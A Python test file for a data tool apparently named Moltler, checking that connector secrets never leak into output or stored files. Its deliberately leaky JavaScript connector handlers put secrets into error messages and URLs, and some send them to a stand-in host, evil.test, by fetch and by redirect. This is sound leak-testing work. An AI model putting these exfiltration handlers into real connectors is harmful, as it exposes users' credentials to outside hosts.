"""Nothing that is written or printed holds a secret, however a connector and its API behave."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

import moltler
from support.command import Moltler
from support.http import HttpServer, Request, Response
from support.oauth import CLIENT, REFRESH, OAuthServer
from support.oauth import SECRET as CLIENT_SECRET

SECRETS = {
    "stored": "s7ored-value/1 2",
    "exposed": "exp0sed-value-2",
    "literal": 'l1teral"value\\3',
    "variable": "v4riable-value-4",
    "overriding": "0verriding-value-5",
}
DEFINITION = """
CREATE CONNECTOR TYPE 'leaky' CONFIG_SCHEMA {"api_url": {"type": "string"},
    "stored": {"type": "string", "secret": true},
    "exposed": {"type": "string", "secret": true, "expose": true, "expose_reason": "a test"},
    "literal": {"type": "string", "secret": true},
    "variable": {"type": "string", "secret": true},
    "path": {"type": "string"}};
CREATE CONNECTOR ENTITY 'leaky.items'
FIELDS {"id": {"type": "integer", "primary_key": true}, "echo": {"type": "string"}}
QUERY_HANDLER '
async function query(config, filters, options) {
    console.log(JSON.stringify(config), btoa(config.exposed), encodeURIComponent(config.exposed));
    const body = JSON.stringify(config);
    const headers = {"X-Key": config.stored, "Content-Type": "application/json"};
    const r = await fetch(`${config.api_url}/echo?key=${config.stored}`,
        {method: "POST", body, headers});
    const text = await r.text();
    console.error(text, r.url, [...r.headers].join());
    return [{id: 1, echo: text.replaceAll(config.exposed, "")}];
}';
CREATE CONNECTOR ACTION 'leaky.misbehave'
PARAMETERS {"how": {"type": "string"}, "more": {"type": "string"}}
HANDLER '
async function execute(config, params) {
    const all = JSON.stringify(config);
    const post = (path) => fetch(config.api_url + path, {method: "POST", body: all,
        headers: {"X-Key": config.stored, "X-Login": `Basic ${btoa(`me:${config.literal}`)}`}});
    switch (params.how) {
        case "throw": throw new Error(all + params.more);
        case "cause": throw new ConnectorError(all, {cause: new Error(all)});
        case "long": throw new Error("x".repeat(9_990) + config.exposed);
        case "type": return null[config.exposed];
        case "name": return globalThis.eval ? undefined : undefined_name;
        case "base64": throw new Error(btoa(config.exposed) + btoa(config.stored));
        case "url": return await fetch(`${config.api_url}:x/${config.exposed}?${config.stored}`);
        case "refused": return await fetch(`http://127.0.0.1:1/${config.exposed}`);
        case "foreign": return await fetch(`https://${config.exposed}.evil.test/${config.stored}`);
        case "header": return await fetch(config.api_url, {headers: {"X": `${config.exposed}\\n`}});
        case "json": return (await post("/broken")).json();
        case "status": throw new ConnectorAuthError(await (await post("/fail")).text());
        case "redirect": return (await post("/redirect")).status;
        case "lost": return (await post("/lost")).json();
        default: return (await post("/echo")).status;
    }
}';
CREATE CONNECTOR ACTION 'leaky.shaped' RETURNS {"id": {"type": "integer"}}
HANDLER 'function execute(config) { return {id: config.exposed}; }';
CREATE CONNECTOR ENTITY 'leaky.unfit' FIELDS {"id": {"type": "integer", "primary_key": true}}
QUERY_HANDLER 'function query(config) { return [{id: config.exposed}]; }';
CREATE CONNECTOR ENTITY 'leaky.long' FIELDS {"id": {"type": "integer", "primary_key": true}}
QUERY_HANDLER 'function query(config) { return [{id: "y".repeat(70) + config.exposed}]; }';
CREATE CONNECTOR ENTITY 'leaky.timed' FIELDS {"at": {"type": "timestamp"}}
QUERY_HANDLER 'function query(config) { return [{at: config.exposed}]; }';
CREATE CONNECTOR ENTITY 'leaky.shapeless' FIELDS {"id": {"type": "integer", "primary_key": true}}
QUERY_HANDLER 'function query(config) { return {[config.exposed]: config.exposed}; }';
REGISTER CONNECTOR TYPE 'leaky';
CREATE CONNECTOR l TYPE 'leaky' CONFIG {"api_url": "URL", "stored": "{{secrets.stored}}",
    "exposed": "{{secrets.exposed}}", "literal": LITERAL, "variable": ENV('LEAKY_VARIABLE'),
    "path": "/a/{{secrets.overriding}}/b"} OPTIONS {"rate_limit": 1000, "cache_ttl": 60};
CREATE CONNECTOR TYPE 'tokens'
CONFIG_SCHEMA {"api_url": {"type": "string"}, "token_url": {"type": "string"},
    "client_id": {"type": "string"}, "client_secret": {"type": "string", "secret": true},
    "refresh_token": {"type": "string", "secret": true}}
AUTH {"scheme": "oauth2_refresh_token", "token_url": "token_url", "client_id": "client_id",
      "client_secret": "client_secret", "refresh_token": "refresh_token"};
CREATE CONNECTOR ENTITY 'tokens.items'
FIELDS {"id": {"type": "integer", "primary_key": true}, "seen": {"type": "string"}}
QUERY_HANDLER 'async function query(config) {
    const r = await fetch(config.api_url + "/items");
    const text = await r.text();
    console.log(text);
    if (!r.ok) throw new ConnectorAuthError(text);
    return JSON.parse(text).items; }';
REGISTER CONNECTOR TYPE 'tokens';
CREATE CONNECTOR t TYPE 'tokens' CONFIG {"api_url": "OAUTH", "token_url": "OAUTH/token",
    "client_id": "CLIENT", "client_secret": "{{secrets.client}}",
    "refresh_token": "{{secrets.refresh}}"};
"""
WAYS = ("throw", "cause", "long", "type", "name", "base64", "url", "refused", "foreign", "header",
        "json", "status", "redirect", "lost", "fine")  # fmt: skip
LOOKS = """
SELECT * FROM l.items; SELECT * FROM l.items WHERE id = 1; SELECT * FROM t.items;
EXPLAIN SELECT * FROM l.items; EXPLAIN ANALYZE SELECT * FROM l.items;
EXPLAIN CONNECTOR_EXEC l.misbehave('fine'); SHOW CONNECTORS; SHOW CONNECTOR l;
SHOW CONNECTOR l STATUS; SHOW CONNECTOR t STATUS; SHOW CONNECTOR l ACTION HISTORY;
SHOW CONNECTOR TYPE 'leaky'; SHOW CACHE; DESCRIBE l.items;
"""


def attempt(statement: str) -> str:
    return f"TRY {statement}; CATCH error THEN PRINT DOCUMENT_TO_JSON(error); END TRY;\n"


@pytest.fixture
def oauth() -> Iterator[OAuthServer]:
    with OAuthServer() as server:
        yield server


@pytest.fixture
def api(http_server: HttpServer) -> HttpServer:
    def echo(request: Request) -> str:
        headers = json.dumps(request.headers)
        return f"{request.target} {headers} {request.body.decode()}"

    http_server.route("*", "/*", echo)
    http_server.route("POST", "/broken", lambda r: "{" + echo(r))
    http_server.route("POST", "/fail", lambda r: Response(500, echo(r)))
    http_server.route(
        "POST", "/redirect",
        lambda r: Response(307, {}, {"Location": f"https://evil.test/?{quote(echo(r)[:900])}"}),
    )  # fmt: skip
    http_server.route("POST", "/lost", lambda r: Response(200, echo(r), then="reset"))
    return http_server


def spellings(value: str) -> list[bytes]:
    """Give the forms in which a value may be found."""
    raw = value.encode()
    coded = base64.b64encode(raw).rstrip(b"=")
    texts = (json.dumps(value)[1:-1], quote(value, safe=""), raw.hex())
    # Inside of a longer text the first and last characters of Base64 depend on what is around.
    inner = [base64.b64encode(b"x" * n + raw)[4 : -4 if n else None].rstrip(b"=") for n in (1, 2)]
    return list(dict.fromkeys([raw[:9], coded, *inner, *(t.encode() for t in texts)]))


def found_in(content: bytes, values: dict[str, str]) -> list[str]:
    return [name for name, value in values.items() if any(s in content for s in spellings(value))]


def test_the_scan_finds_what_it_looks_for() -> None:
    value = {"key": SECRETS["literal"]}
    for text in (
        SECRETS["literal"],
        json.dumps(SECRETS),
        quote(SECRETS["literal"]),
        base64.b64encode(b"me:" + SECRETS["literal"].encode()).decode(),
        base64.b64encode(b"m:" + SECRETS["literal"].encode()).decode(),
    ):
        assert found_in(text.encode(), value) == ["key"]
    assert found_in(b"literal", value) == []


def test_no_secret_is_in_the_home_or_in_any_output(
    home: Path, api: HttpServer, oauth: OAuthServer, moltler_command: Moltler
) -> None:
    with moltler.connect(home) as session:
        for name in ("stored", "exposed"):
            session.secrets.put(name, SECRETS[name])
        session.secrets.put("overriding", "what the environment overrides")
        session.secrets.put("client", CLIENT_SECRET)
        session.secrets.put("refresh", REFRESH)
    environment = {
        "LEAKY_VARIABLE": SECRETS["variable"],
        "MOLTLER_SECRET_OVERRIDING": SECRETS["overriding"],
    }
    definition = (
        DEFINITION.replace("URL", api.url, 1)
        .replace("URL", api.url)
        .replace("OAUTH", oauth.url)
        .replace("CLIENT", CLIENT)
        .replace("LITERAL", json.dumps(SECRETS["literal"]))
    )
    quoted = SECRETS["stored"]
    acts = [f"CONNECTOR_EXEC l.misbehave('{how}', 'as typed: {quoted}')" for how in WAYS]
    failing = [
        *acts,
        "CONNECTOR_EXEC l.shaped()",
        "SELECT * FROM l.unfit",
        "SELECT * FROM l.long",
        "SELECT * FROM l.timed",
        "SELECT * FROM l.shapeless",
    ]
    script = definition + LOOKS + "".join(map(attempt, failing)) + LOOKS
    runs = [moltler_command("-v", "run", "-", stdin=script, env=environment).ok()]
    oauth.revoke()
    oauth.expire()
    runs += [
        moltler_command(*options, "query", statement, env=environment).fails(3)
        for statement in ("CONNECTOR_EXEC l.misbehave('lost')", "SELECT * FROM t.items")
        for options in (("-v",), ("-v", "--json"))
    ]
    values = {
        **SECRETS,
        "client_secret": CLIENT_SECRET,
        "refresh": REFRESH,
        "next refresh": "refresh-token-1",
        "access": "access-token-1",
        "key": moltler_command.environment["MOLTLER_KEY"],
    }
    for run in runs:
        assert "Traceback" not in run.stderr
        assert found_in(run.stdout.encode(), values) == []
        # A script that types a secret in plain shows it where it points at its own lines.
        assert found_in(run.stderr.encode(), values) == []
    files = [path for path in home.rglob("*") if path.is_file()]
    assert {"budget.db", "catalog.db", "journal.db", "secrets.db"} <= {p.name for p in files}
    assert {p.name: found for p in files if (found := found_in(p.read_bytes(), values))} == {}
    # The API did get them.
    assert found_in(b"".join(r.body for r in api.requests), SECRETS)
